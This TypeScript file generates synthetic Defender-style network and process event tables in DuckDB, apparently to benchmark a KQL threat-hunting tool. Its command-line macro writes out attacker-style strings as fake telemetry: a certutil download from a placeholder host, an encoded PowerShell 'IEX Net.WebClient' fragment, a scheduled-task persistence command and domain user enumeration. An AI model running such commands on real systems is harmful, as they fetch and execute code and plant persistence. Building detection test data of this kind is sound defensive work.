/**
 * Rows in the shape of Defender's DeviceNetworkEvents (60 %) and DeviceProcessEvents (40 %), made by SQL and the same on
 * every run: skewed devices, accounts and programs, command lines with ids in them, JSON in AdditionalFields (text in
 * one table as the service has it, dynamic in the other), 30 days in order of time. The file is made once and kept.
 */
import { existsSync } from 'node:fs';
import { mkdir, rename, rm } from 'node:fs/promises';
import { homedir } from 'node:os';
import { join } from 'node:path';
import { DuckDBInstance } from '@duckdb/node-api';
import { stringLiteral } from '../../src/kql/sql/literal.ts';
import { ticksFromEpochMilliseconds, ticksPer } from '../../src/kql/time/ticks.ts';
import type { Column, ScalarType, Schema } from '../../src/kql/types.ts';

/** Raise it when what follows makes other rows; files of other versions are not read. */
const generatorVersion = 2;

/** The instant after the last row: what `now()` means to the queries. */
export const endTicks = ticksFromEpochMilliseconds(Date.UTC(2025, 5, 1));
const startTicks = endTicks - 30n * ticksPer.day;

const networkTypes: Readonly<Record<string, ScalarType>> = {
  Timestamp: 'datetime',
  DeviceId: 'string',
  DeviceName: 'string',
  ActionType: 'string',
  RemoteIP: 'string',
  RemotePort: 'int',
  RemoteUrl: 'string',
  LocalIP: 'string',
  LocalPort: 'int',
  Protocol: 'string',
  InitiatingProcessFileName: 'string',
  InitiatingProcessId: 'long',
  InitiatingProcessCommandLine: 'string',
  InitiatingProcessAccountName: 'string',
  ReportId: 'long',
  AdditionalFields: 'string',
};

const processTypes: Readonly<Record<string, ScalarType>> = {
  Timestamp: 'datetime',
  DeviceId: 'string',
  DeviceName: 'string',
  ActionType: 'string',
  FileName: 'string',
  FolderPath: 'string',
  SHA256: 'string',
  FileSize: 'long',
  ProcessId: 'long',
  ProcessCommandLine: 'string',
  AccountName: 'string',
  AccountSid: 'string',
  InitiatingProcessFileName: 'string',
  InitiatingProcessId: 'long',
  InitiatingProcessCommandLine: 'string',
  ReportId: 'long',
  AdditionalFields: 'dynamic',
};

const columnsOf = (types: Readonly<Record<string, ScalarType>>): Column[] =>
  Object.entries(types).map(([name, type]) => ({ name, type }));

export const benchSchema: Schema = {
  tables: [
    { name: 'DeviceNetworkEvents', columns: columnsOf(networkTypes) },
    { name: 'DeviceProcessEvents', columns: columnsOf(processTypes) },
  ],
};

/** Returns the file with the rows, made now when it is not there yet. */
export async function datasetFile(rows: number): Promise<string> {
  const cache = process.env['XDG_CACHE_HOME'] ?? join(homedir(), '.cache');
  const folder = join(cache, 'hunt-notebooks', 'bench');
  const file = join(folder, `v${generatorVersion}-${rows}.duckdb`);
  if (existsSync(file)) return file;
  console.log(`Making ${rows.toLocaleString('en')} rows in ${file} ...`);
  await mkdir(folder, { recursive: true });
  const draft = `${file}.${process.pid}`;
  const instance = await DuckDBInstance.create(draft);
  const connection = await instance.connect();
  try {
    for (const macro of macros) await connection.run(`CREATE TEMP MACRO ${macro}`);
    const networkRows = Math.round(rows * 0.6);
    await connection.run(networkSql(networkRows));
    await connection.run(processSql(rows - networkRows));
    await connection.run('CHECKPOINT');
    connection.closeSync();
    instance.closeSync();
    await rename(draft, file);
  } finally {
    await rm(draft, { force: true });
    await rm(`${draft}.wal`, { force: true });
  }
  return file;
}

/** `roll` is a whole number below `size`, another for each salt; `skewed` prefers the small ones. */
const macros: readonly string[] = [
  `unit(i, salt) AS (hash(i * 128 + salt) >> 11) / 9007199254740992.0`,
  `roll(i, salt, size) AS CAST(floor(unit(i, salt) * size) AS BIGINT)`,
  `skewed(i, salt, size) AS CAST(floor(pow(unit(i, salt), 3) * size) AS BIGINT)`,
  `pick(items, n) AS items[n + 1]`,
  `device(n) AS pick(['wks', 'srv', 'lap', 'vdi'], n % 4) || '-' || lpad(n::VARCHAR, 4, '0') || '.contoso.example'`,
  `account(n) AS pick(['anna', 'ben', 'carla', 'david', 'svc-backup', 'svc-scan', 'emma', 'farid'], n % 8) || n`,
  `program(n) AS pick(['svchost.exe', 'chrome.exe', 'msedge.exe', 'Teams.exe', 'OneDrive.exe', 'powershell.exe', 'cmd.exe',
    'outlook.exe', 'explorer.exe', 'rundll32.exe', 'wscript.exe', 'MsMpEng.exe', 'SenseIR.exe', 'python.exe', 'java.exe',
    'certutil.exe', 'mshta.exe', 'regsvr32.exe', 'net.exe', 'whoami.exe', 'schtasks.exe', 'bitsadmin.exe', 'psexec.exe',
    'wmic.exe'], n % 24)`,
  `command_line(n, i) AS CASE n % 24
    WHEN 5 THEN 'powershell.exe -NoProfile -ExecutionPolicy Bypass -File C:\\ProgramData\\jobs\\job' || roll(i, 71, 5000) || '.ps1'
      || CASE WHEN roll(i, 72, 40) = 0 THEN ' -EncodedCommand ' || to_base64(encode('IEX (New-Object Net.WebClient)' || i)) ELSE '' END
    WHEN 6 THEN 'cmd.exe /c "' || pick(['dir', 'copy', 'net use', 'ping', 'type'], roll(i, 73, 5)) || ' \\\\srv-' || roll(i, 74, 500) || '\\share$"'
    WHEN 15 THEN 'certutil.exe -urlcache -split -f http://' || roll(i, 75, 3000) || '.files.example/p' || roll(i, 76, 90) || '.dat'
    WHEN 18 THEN 'net user ' || account(roll(i, 77, 900)) || ' /domain'
    WHEN 20 THEN 'schtasks /create /tn Update' || roll(i, 78, 700) || ' /tr C:\\Users\\Public\\u.exe /sc hourly'
    ELSE '"C:\\Program Files\\' || pick(['Contoso', 'Fabrikam', 'Common Files', 'Windows Apps'], roll(i, 79, 4)) || '\\' || program(n)
      || '" --type=' || pick(['renderer', 'utility', 'gpu-process', 'service'], roll(i, 80, 4)) || ' --id=' || roll(i, 81, 200000) END`,
  `remote_ip(n) AS CASE WHEN n % 3 = 0 THEN '10.' || n % 64 || '.' || n // 64 % 256 || '.' || n % 251
    ELSE (20 + n % 180) || '.' || n // 7 % 256 || '.' || n // 3 % 256 || '.' || n % 253 END`,
];

function timeSql(rows: number): string {
  return `${startTicks} + CAST((i + unit(i, 1)) * ${(endTicks - startTicks) / BigInt(rows)} AS BIGINT)`;
}

function networkSql(rows: number): string {
  return `CREATE TABLE DeviceNetworkEvents AS
    SELECT ${timeSql(rows)} AS Timestamp,
      md5(d::VARCHAR) AS DeviceId,
      device(d) AS DeviceName,
      pick(['ConnectionSuccess', 'ConnectionFailed', 'ConnectionAttempt', 'InboundConnectionAccepted', 'DnsConnectionInspected'],
        least(4, skewed(i, 3, 5))) AS ActionType,
      remote_ip(r) AS RemoteIP,
      CAST(pick([443, 80, 53, 445, 3389, 22, 8080, 5985], skewed(i, 4, 8)) + CASE WHEN roll(i, 5, 12) = 0 THEN roll(i, 6, 20000) ELSE 0 END AS INTEGER) AS RemotePort,
      CASE WHEN r % 5 < 2 THEN '' ELSE pick(['https://', 'www.', 'cdn.', 'api.'], r % 4) || 'host' || r // 5 || pick(['.example', '.contoso.example', '.test', '.invalid'], r % 4)
        || CASE WHEN r % 4 = 0 THEN '/a/' || roll(i, 7, 50) || '/index.html' ELSE '' END END AS RemoteUrl,
      '10.1.' || d // 250 || '.' || d % 250 AS LocalIP,
      CAST(49152 + roll(i, 8, 16384) AS INTEGER) AS LocalPort,
      CASE WHEN roll(i, 9, 6) = 0 THEN 'Udp' ELSE 'Tcp' END AS Protocol,
      program(p) AS InitiatingProcessFileName,
      4 * roll(i, 10, 16000) AS InitiatingProcessId,
      command_line(p, i // 40) AS InitiatingProcessCommandLine,
      account(d * 2 + roll(i, 11, 3)) AS InitiatingProcessAccountName,
      i AS ReportId,
      CASE roll(i, 12, 4) WHEN 0 THEN '' ELSE '{"direction":"' || pick(['Out', 'In'], roll(i, 13, 2)) || '","bytes":' || roll(i, 14, 1000000)
        || ',"tls":{"version":"' || pick(['1.2', '1.3'], roll(i, 15, 2)) || '","server_name":"host' || r // 5 || '.example"},"tags":["t' || roll(i, 16, 9)
        || '","u' || roll(i, 17, 30) || '"]}' END AS AdditionalFields
    FROM (SELECT i, skewed(i, 20, 2000) AS d, skewed(i, 21, 200000) AS r, skewed(i, 22, 24) AS p FROM range(${rows}) AS t(i))`;
}

function processSql(rows: number): string {
  return `CREATE TABLE DeviceProcessEvents AS
    SELECT ${timeSql(rows)} AS Timestamp,
      md5(d::VARCHAR) AS DeviceId,
      device(d) AS DeviceName,
      pick(['ProcessCreated', 'OpenProcess'], CASE WHEN roll(i, 31, 10) = 0 THEN 1 ELSE 0 END) AS ActionType,
      program(p) AS FileName,
      'C:\\' || pick(['Windows\\System32', 'Program Files\\Contoso', 'Users\\Public', 'ProgramData\\jobs'], roll(i, 32, 4)) || '\\' || program(p) AS FolderPath,
      sha256(program(p) || roll(i, 33, 400)) AS SHA256,
      20000 + roll(i, 34, 9000000) AS FileSize,
      4 * roll(i, 35, 16000) AS ProcessId,
      command_line(p, i) AS ProcessCommandLine,
      account(d * 2 + roll(i, 36, 3)) AS AccountName,
      'S-1-5-21-1004336348-1177238915-682003330-' || (d * 2 + roll(i, 36, 3)) AS AccountSid,
      program(q) AS InitiatingProcessFileName,
      4 * roll(i, 37, 16000) AS InitiatingProcessId,
      command_line(q, i // 30) AS InitiatingProcessCommandLine,
      i AS ReportId,
      CAST(CASE roll(i, 38, 5) WHEN 0 THEN NULL ELSE '{"ProcessTokenElevation":"' || pick(['Default', 'Full', 'Limited'], roll(i, 39, 3)) || '","InitiatingProcessSessionId":'
        || roll(i, 40, 9) || ',"Modules":[{"Name":"m' || roll(i, 41, 60) || '.dll","Size":' || roll(i, 42, 90000) || '},{"Name":"m' || roll(i, 43, 60) || '.dll","Size":'
        || roll(i, 44, 90000) || '}],"Signer":{"Status":"' || pick(['Valid', 'Unsigned', 'Invalid'], skewed(i, 45, 3)) || '"}}' END AS JSON) AS AdditionalFields
    FROM (SELECT i, skewed(i, 50, 2000) AS d, skewed(i, 51, 24) AS p, skewed(i, 52, 24) AS q FROM range(${rows}) AS t(i))`;
}

/** Returns SQL that shows the rows of the file to a database, under the names of the schema. */
export function attachDatasetSql(file: string): string {
  const views = benchSchema.tables.map(({ name }) => `CREATE VIEW ${name} AS FROM bench.main.${name}`);
  return [`ATTACH ${stringLiteral(file)} AS bench (READ_ONLY)`, ...views].join(';\n');
}
